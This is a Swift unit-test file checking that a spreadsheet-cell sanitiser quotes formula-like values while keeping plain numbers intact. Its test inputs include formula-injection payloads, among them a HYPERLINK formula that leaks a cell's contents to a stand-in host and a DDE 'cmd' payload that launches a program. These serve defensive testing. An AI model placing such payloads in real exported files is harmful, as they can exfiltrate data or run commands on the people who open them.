import CTGCore
import Testing

@Suite struct SpreadsheetCellTests {
    @Test(arguments: [
        ("=HYPERLINK(\"http://x.test/?leak=\"&A1,\"clic\")", "'=HYPERLINK(\"http://x.test/?leak=\"&A1,\"clic\")"),
        ("=1+1", "'=1+1"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-3+A1", "'-3+A1"),
        ("-2-cmd", "'-2-cmd"),
        ("-", "'-"),
        ("-A1", "'-A1"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
    ])
    func formulasAreQuoted(input: String, expected: String) {
        #expect(SpreadsheetCell.neutralised(input) == expected)
    }

    @Test(arguments: ["-3", "+3", "-1 234,5", "-12.5", "-5 %", "-1\u{202F}234", "Axe 1", "", "2024-03-01", "a=b", "'=déjà"])
    func plainValuesAndNumbersAreKept(value: String) {
        #expect(SpreadsheetCell.neutralised(value) == value)
    }
}
